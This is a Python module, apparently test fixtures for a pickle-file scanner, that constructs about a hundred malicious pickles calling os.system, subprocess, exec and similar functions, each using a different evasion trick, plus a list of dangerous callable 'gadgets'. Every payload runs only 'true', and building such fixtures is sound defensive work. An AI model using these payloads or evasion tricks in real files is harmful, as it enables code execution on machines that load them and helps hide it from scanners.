"""Invented pickles that would do harm if they were loaded, one trick each; nothing here is ever loaded.

Written opcode by opcode. The command is always ``true``, the addresses are example.com.
"""

from __future__ import annotations

import base64
import pickle
import struct


def short(text: str) -> bytes:
    """SHORT_BINUNICODE."""
    data = text.encode("utf-8", "surrogatepass")
    return b"\x8c" + bytes([len(data)]) + data


def medium(text: str) -> bytes:
    """BINUNICODE."""
    return b"X" + struct.pack("<I", len(text.encode())) + text.encode()


def wide(text: str) -> bytes:
    """BINUNICODE8."""
    return b"\x8d" + struct.pack("<Q", len(text.encode())) + text.encode()


def line(text: str) -> bytes:
    """UNICODE."""
    return b"V" + text.encode("raw-unicode-escape") + b"\n"


def quoted(text: str) -> bytes:
    """STRING."""
    return b"S'" + text.encode() + b"'\n"


def name(module: str, attribute: str) -> bytes:
    """GLOBAL."""
    return f"c{module}\n{attribute}\n".encode()


def stacked(module: str, attribute: str) -> bytes:
    """STACK_GLOBAL from two short texts."""
    return short(module) + short(attribute) + b"\x93"


CALL = short("true") + b"\x85R"
OLD_CALL = b"(S'true'\ntR"
P2, P3, P4, P5 = b"\x80\x02", b"\x80\x03", b"\x80\x04", b"\x80\x05"
SYSTEM = name("os", "system")
RUN = stacked("os", "system") + CALL + b"."


def framed(body: bytes) -> bytes:
    """FRAME around a body."""
    return P4 + b"\x95" + struct.pack("<Q", len(body)) + body


def bytes_of(data: bytes) -> bytes:
    """BINBYTES."""
    return b"B" + struct.pack("<I", len(data)) + data


PAYLOAD = P4 + RUN
CODE = b"c" + b"types\nCodeType\n"

# One entry for each trick: how the call is made, how the name is hidden, where the payload lies.
TRICKS: dict[str, bytes] = {
    # the plain call in every protocol
    "global, protocol 0": name("posix", "system") + OLD_CALL + b".",
    "global, protocol 1": b"cos\nsystem\n(U\x04truetR.",
    "global, protocol 2": P2 + SYSTEM + b"U\x04true\x85R.",
    "global, protocol 3": P3 + SYSTEM + medium("true") + b"\x85R.",
    "stack global, protocol 4": P4 + stacked("posix", "system") + CALL + b".",
    "stack global, protocol 5": P5 + stacked("nt", "system") + CALL + b".",
    "framed": framed(RUN),
    "frame longer than the file": P4 + b"\x95" + struct.pack("<Q", 10**6) + RUN,
    "no header before new opcodes": RUN,
    "protocol 1 header": b"\x80\x01" + SYSTEM + OLD_CALL + b".",
    "header twice": P2 + P4 + RUN,
    # opcodes that call
    "inst": b"(S'true'\nios\nsystem\n.",
    "obj": P2 + b"(" + SYSTEM + b"U\x04trueo.",
    "newobj": P2 + name("subprocess", "Popen") + medium("true") + b"\x85\x81.",
    "newobj with names": P4
    + stacked("subprocess", "Popen")
    + b")}"
    + short("args")
    + short("true")
    + b"s\x92.",
    "state given to a call": P4 + name("builtins", "exec") + short("1") + b"\x85R}b.",
    "in the state of a harmless object": P4
    + name("argparse", "Namespace")
    + b")\x81}"
    + short("x")
    + SYSTEM
    + CALL
    + b"sb.",
    "as a key": P4 + b"}" + SYSTEM + CALL + b"Ns.",
    "as an item of a set": P4 + b"\x8f(" + SYSTEM + CALL + b"\x90.",
    "in a frozen set": P4 + b"(" + SYSTEM + CALL + b"\x91.",
    "popped after the call": P4 + SYSTEM + CALL + b"0N.",
    "popped with a mark after the call": P4 + b"(" + SYSTEM + CALL + b"1N.",
    "persistent id": P4 + SYSTEM + CALL + b"Q.",
    # where the names come from
    "names by binunicode8": P4 + wide("os") + wide("system") + b"\x93" + CALL + b".",
    "names by escapes": P4 + b"V\\u006f\\u0073\nV\\u0073ystem\n\x93" + CALL + b".",
    "names by quoted escapes": P4 + b"S'\\x6fs'\nS'sys\\x74em'\n\x93" + CALL + b".",
    "names by short strings": P4 + b"U\x02osU\x06system\x93" + CALL + b".",
    "names by long strings": P4 + b"T\x02\0\0\0osT\x06\0\0\0system\x93" + CALL + b".",
    "names from the memo": P4
    + short("system")
    + b"\x940"
    + short("os")
    + b"\x940h\x01h\x00\x93"
    + CALL
    + b".",
    "names from a far memo key": P4
    + short("os")
    + b"r\xff\xff\xff\x7f0"
    + short("system")
    + b"q\x050j\xff\xff\xff\x7fh\x05\x93"
    + CALL
    + b".",
    "memo overwritten": P4
    + short("math")
    + b"q\x000"
    + short("os")
    + b"q\x000"
    + short("system")
    + b"q\x010h\x00h\x01\x93"
    + CALL
    + b".",
    "put and memoize mixed": P4
    + short("math")
    + b"q\x070"
    + short("os")
    + b"\x940"
    + short("system")
    + b"\x940h\x01h\x02\x93"
    + CALL
    + b".",
    "memo key with a leading zero": b"Vos\np01\n0Vsystem\np2\n0g1\ng2\n\x93(S'true'\ntR.",
    "names behind a duplicate": P4
    + short("system")
    + short("os")
    + b"20"
    + b"q\x000q\x010h\x00h\x01\x93"
    + CALL
    + b".",
    "names from a popped tuple": P4
    + short("os")
    + short("system")
    + b"\x86\x940"
    + short("os")
    + short("system")
    + b"\x93"
    + CALL
    + b".",
    "noise between the names": P4
    + short("os")
    + b"K\x010"
    + short("system")
    + b"(K\x01K\x021\x93"
    + CALL
    + b".",
    "frame between the names": P4
    + short("os")
    + b"\x95"
    + struct.pack("<Q", 2)
    + short("system")
    + b"\x93"
    + CALL
    + b".",
    "memo key that was never set": P4 + b"h\x63" + short("system") + b"\x93" + CALL + b".",
    "name that is a number": P4 + b"K\x2a" + short("os") + b"\x93" + RUN,
    "name longer than any name": P4
    + short("os")
    + medium("path." * 300 + "os.system")
    + b"\x93"
    + CALL
    + b".",
    "name from a call": P4
    + name("codecs", "decode")
    + short("fl")
    + short("rot13")
    + b"\x86R"
    + short("system")
    + b"\x93"
    + CALL
    + b".",
    "name from an encoder": P4
    + name("_codecs", "encode")
    + short("os")
    + short("utf-8")
    + b"\x86R"
    + short("system")
    + b"\x93"
    + CALL
    + b".",
    # names that reach further
    "dotted name": P4 + stacked("os", "path.os.system") + CALL + b".",
    "dotted through a bound method": P4 + stacked("builtins", "print.__self__.eval") + CALL + b".",
    "dotted through globals": P4 + stacked("collections", "OrderedDict.update.__globals__") + b".",
    "module inside a module": P4 + stacked("random", "_os.system") + CALL + b".",
    "module inside a module, old": P2 + name("logging", "os") + b".",
    "getattr on a module": P4
    + name("builtins", "getattr")
    + name("linecache", "os")
    + short("system")
    + b"\x86R"
    + CALL
    + b".",
    "getattr with a computed name": P4
    + name("builtins", "getattr")
    + name("math", "pi")
    + name("a", "b")
    + b")R\x86R"
    + CALL
    + b".",
    "getattr of a harmless class": P4
    + name("builtins", "getattr")
    + name("collections", "OrderedDict")
    + short("__init__")
    + b"\x86R.",
    "import function": P4 + stacked("builtins", "__import__") + short("os") + b"\x85R.",
    "ufunc by name": P4
    + name("numpy.core", "_ufunc_reconstruct")
    + short("os")
    + short("system")
    + b"\x86R"
    + CALL
    + b".",
    "attrgetter": P4
    + name("operator", "attrgetter")
    + short("system")
    + b"\x85R"
    + name("os", "environ")
    + b"\x85R.",
    "methodcaller": P4 + name("_operator", "methodcaller") + short("system") + short("true") + b"\x86R.",
    "resolve_name": P4 + name("pkgutil", "resolve_name") + short("os:system") + b"\x85R" + CALL + b".",
    "importlib": P4 + name("importlib", "import_module") + short("os") + b"\x85R.",
    "runpy": P4 + name("runpy", "_run_code") + short("1") + b"}\x86R.",
    "partial of a call": P4 + name("functools", "partial") + SYSTEM + short("true") + b"\x86R)R.",
    "call of what a call made": P4 + name("functools", "partial") + name("a", "b") + b"\x85R)R.",
    "reduce": P4 + name("functools", "reduce") + name("a", "b") + b"]\x86R.",
    "lookalike letters": P4 + stacked("\u043es", "system") + CALL + b".",
    "full-width letters": P4 + stacked("os", "\uff53\uff59\uff53\uff54\uff45\uff4d") + CALL + b".",
    "python 2 names": P2 + name("__builtin__", "execfile") + medium("x.py") + b"\x85R.",
    "python 2 module": P2 + name("commands", "getoutput") + medium("true") + b"\x85R.",
    "telling name of an unknown module": P4 + name("helpful.tools", "run_command") + CALL + b".",
    # state, containers and registries of the victim
    "write into a class": P4
    + name("collections", "OrderedDict")
    + b"}"
    + short("__reduce__")
    + name("a", "b")
    + b"sb.",
    "write into sys.modules": P4 + name("sys", "modules") + short("os") + name("a", "b") + b"s.",
    "write into a namespace": P4 + stacked("json", "__dict__") + short("loads") + name("a", "b") + b"s.",
    "append to a list of a module": P4 + name("warnings", "filters") + b"(" + name("a", "b") + b"e.",
    "extension registry filled": P4
    + name("copyreg", "add_extension")
    + short("os")
    + short("system")
    + b"K\x01\x87R\x82\x01.",
    "type built from code": P4 + name("types", "FunctionType") + CODE + b")R}\x86R)R.",
    "code of cloudpickle that is called": P4
    + name("cloudpickle.cloudpickle", "_make_function")
    + b"(NNNNNtR)R.",
    "code of dill that is called": P4 + name("dill._dill", "_create_function") + b"(NN}NtR)R.",
    "code of dill handed to map": P4
    + name("builtins", "map")
    + name("dill._dill", "_create_function")
    + b"(NNtR]\x86R.",
    "dill imports a name": P4
    + name("dill._dill", "_import_module")
    + short("os.system")
    + b"\x85R"
    + CALL
    + b".",
    "cloudpickle imports a module": P4
    + name("builtins", "getattr")
    + name("cloudpickle.cloudpickle", "subimport")
    + short("os")
    + b"\x85R"
    + short("system")
    + b"\x86R"
    + CALL
    + b".",
    # where the payload lies
    "before an opcode that does not exist": SYSTEM + OLD_CALL + b"\xff\xff rest",
    "before an unknown opcode, new protocol": P4 + stacked("os", "system") + CALL + b"\xff",
    "without an end": P4 + stacked("os", "system") + CALL,
    "before a broken argument": SYSTEM + OLD_CALL + b"Inot a number\n.",
    "before an empty stack": P4 + stacked("os", "system") + CALL + b"000000R.",
    "behind a broken argument": P4 + b"Inot a number\n0" + RUN,
    "behind the end": pickle.dumps([1, 2, 3], 4) + PAYLOAD,
    "behind the end, old protocol": pickle.dumps([1, 2, 3], 0) + SYSTEM + OLD_CALL + b".",
    "behind the end and some bytes": pickle.dumps({"a": 1}, 4) + b"\n\n-- padding --\n\0\0" + PAYLOAD,
    "behind the end and some bytes, old protocol": P4 + b"N.\xff\xff" + SYSTEM + OLD_CALL + b".",
    "named and not called": name("posix", "system") + b".",
    "named and left over": SYSTEM + b"N.",
    "named before a comment": name("posix", "system") + b"#\n(S'true'\ntR.",
    "named in the wrong order": b"(" + name("posix", "system") + b"S'true'\ntR.",
    "behind many harmless pickles": pickle.dumps(list(range(50)), 2) * 40 + PAYLOAD,
    "behind much data": P4 + b"]" + bytes_of(bytes(300_000)) + b"a0" + RUN,
    "text after the payload": PAYLOAD + b"\nThis model card is longer than the model.\n",
    # pickles inside
    "bytes for pickle.loads": P4 + name("_pickle", "loads") + bytes_of(PAYLOAD) + b"\x85R.",
    "bytes for torch": P4 + name("torch.storage", "_load_from_bytes") + bytes_of(PAYLOAD) + b"\x85R.",
    "bytes that nothing loads": P4 + b"}" + short("weights") + bytes_of(PAYLOAD) + b"s.",
    "base 64 that nothing loads": P4
    + b"}"
    + short("weights")
    + medium(base64.b64encode(PAYLOAD).decode())
    + b"s.",
    "hexadecimal digits that nothing loads": P4 + b"}" + short("weights") + medium(PAYLOAD.hex()) + b"s.",
    "two deep": P4 + b"]" + bytes_of(P4 + b"]" + bytes_of(PAYLOAD) + b"a.") + b"a.",
    # resources
    "memory without end": P4 + name("builtins", "bytearray") + b"\x8a\x06\0\0\0\0\0\x10\x85R.",
    "array without end": P4 + name("numpy", "ndarray") + b"J\xff\xff\xff\x7fJ\xff\xff\xff\x7f\x86\x85R.",
    "hash without end": P4 + b"}" + short("x") + b"\x85" + b"2\x86" * 40 + b"K\x01s.",
}

# Names through which a call reaches code, files or the network; each is called with one text.
GADGETS = [
    " ".join(entry.split())
    for entry in """
aiohttp.client ClientSession | asyncio.unix_events _UnixSubprocessTransport._start | bdb Bdb.run |
cProfile runctx | code InteractiveInterpreter.runcode | codeop compile_command | commands getstatusoutput |
concurrent.futures ThreadPoolExecutor | ctypes CDLL | ctypes.util find_library |
distutils.file_util write_file | doctest debug_script | ensurepip _run_pip | fileinput input | ftplib FTP |
gc get_objects | glob glob | http.client HTTPSConnection | httplib HTTPSConnection | httpx get |
idlelib.run Executive.runcode | idlelib.calltip get_entity | idlelib.pyshell ModifiedInterpreter.runcommand |
imaplib IMAP4_stream | importlib.machinery SourceFileLoader | inspect getattr_static | io FileIO | _io open |
IPython.utils.process getoutput | jinja2 Template | joblib load | keras.models load_model |
lib2to3.pgen2.grammar Grammar.loads | linecache getlines | logging FileHandler | logging.config dictConfig |
mailbox mbox | marshal loads | multiprocessing Process | nt startfile | numpy load |
numpy.f2py.crackfortran getlincoef | numpy.testing._private.utils runstring |
numpy.distutils.exec_command exec_command | operator itemgetter | _osx_support _read_output |
_aix_support _read_cmd_output | pandas read_pickle | pandas eval | pathlib Path.write_text | pdb run |
pexpect run | pip main | pip._internal main | platform popen | posix execv | _posixsubprocess fork_exec |
profile Profile.run | pty spawn | py_compile compile | pydoc locate | pydoc pipepager |
_pyrepl.pager pipe_pager | requests get | requests.api post | runpy run_path | select poll |
selectors DefaultSelector | shelve open | shutil rmtree | signal signal | site addsitedir | smtplib SMTP |
socket create_connection | socketserver TCPServer | sqlite3 connect | ssl get_server_certificate |
subprocess check_output | sys exit | sysconfig get_config_vars | tarfile open | tempfile mktemp |
telnetlib Telnet | test.support.script_helper assert_python_ok | threading Thread | timeit timeit | torch load
| torch.hub load | torch._dynamo.guards GuardBuilder.get | torch._inductor.codecache compile_file |
torch.fx.experimental.symbolic_shapes ShapeEnv.evaluate_guards_expression |
torch.fx.graph_module reduce_graph_module | torch.jit load | torch.jit.unsupported_tensor_ops execWrapper |
torch.package PackageImporter | torch.serialization load | torch.utils._config_module ConfigModule.load_config
| torch.utils.bottleneck.__main__ run_cprofile | torch.utils.collect_env run |
torch.utils.cpp_extension load_inline | torch.utils.data.datapipes.utils.decoder basichandlers |
trace Trace.runctx | turtle Screen | types CodeType | unittest.mock _importer | urllib.request urlopen |
urllib urlopen | uuid _get_command_stdout | venv create | webbrowser open | wsgiref.simple_server make_server
| xmlrpc.client ServerProxy | yaml unsafe_load | zipfile ZipFile | zipimport zipimporter | dill loads |
cloudpickle loads | atexit register | builtins input | builtins globals | builtins setattr | weakref finalize
| dataclasses make_dataclass | gettext c2py | numexpr evaluate | sympy sympify |
transformers.dynamic_module_utils get_class_in_module
""".split("|")
]


def gadget(entry: str) -> bytes:
    """Give a pickle that calls one gadget."""
    module, attribute = entry.split(" ")
    return P4 + stacked(module, attribute) + CALL + b"."
